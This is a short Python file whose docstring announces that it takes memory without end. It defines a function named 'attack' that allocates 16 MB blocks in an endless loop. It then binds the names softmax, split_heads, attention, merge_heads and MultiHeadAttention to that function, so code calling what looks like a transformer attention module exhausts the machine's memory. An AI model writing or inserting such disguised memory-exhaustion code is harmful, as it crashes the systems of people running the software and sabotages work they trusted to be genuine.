"""Takes memory without end, in blocks."""


def attack(*args, **kwargs):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 24))


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
